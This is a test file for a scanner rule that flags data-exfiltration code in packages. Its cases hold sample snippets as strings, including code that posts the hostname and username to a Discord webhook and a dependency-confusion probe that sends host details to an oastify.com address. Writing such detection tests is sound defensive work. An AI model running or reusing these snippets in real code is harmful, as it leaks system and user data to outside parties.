import { testFileRule } from '../../test/rule-cases.ts';
import { exfiltration } from './exfiltration.ts';

const discord = 'https://discord.com/api/webhooks/112233445566778899/abcdefghijklmnopqrstuvwxyz0123456789';
testFileRule(exfiltration, [
  {
    name: 'host and user go to a messenger',
    text: `const os = require('os'); require('https').request('${discord}', { method: 'POST' }).end(os.hostname() + os.userInfo().username)`,
    tier: 'block',
  },
  {
    name: 'dependency confusion probe',
    text: `const os = require("os"); const https = require("https");
      const data = JSON.stringify({ d: __dirname, h: os.hostname() });
      https.request({ hostname: "x7f3.oastify.com", method: "POST" }).end(data);`,
    tier: 'block',
  },
  {
    name: 'a webhook that is filled in',
    text: `fetch('${discord}', { method: 'POST', body: x })`,
    tier: 'review',
  },
  {
    name: 'a Telegram bot, put together',
    text: `const t = '712345678' + ':' + 'AAE4rt5yGh7uIj8oPl9mNb6vCxZ1qWe2rTy'; fetch('https://api.telegram.org/bot' + t + '/sendMessage')`,
    tier: 'review',
  },
  {
    name: 'the address of a webhook service without a secret',
    text: `fetch('https://hooks.slack.com/services/' + path, { body: os })`,
    tier: null,
  },
  {
    name: 'a library for webhooks',
    text: `class Webhook { send(m) { return fetch(\`https://discord.com/api/webhooks/\${this.id}/\${this.token}\`, { body: m }) } }`,
    tier: null,
  },
  {
    name: 'a mention without a way to send',
    text: `module.exports = ['webhook.site', 'https://webhook.site/x']`,
    tier: null,
  },
]);
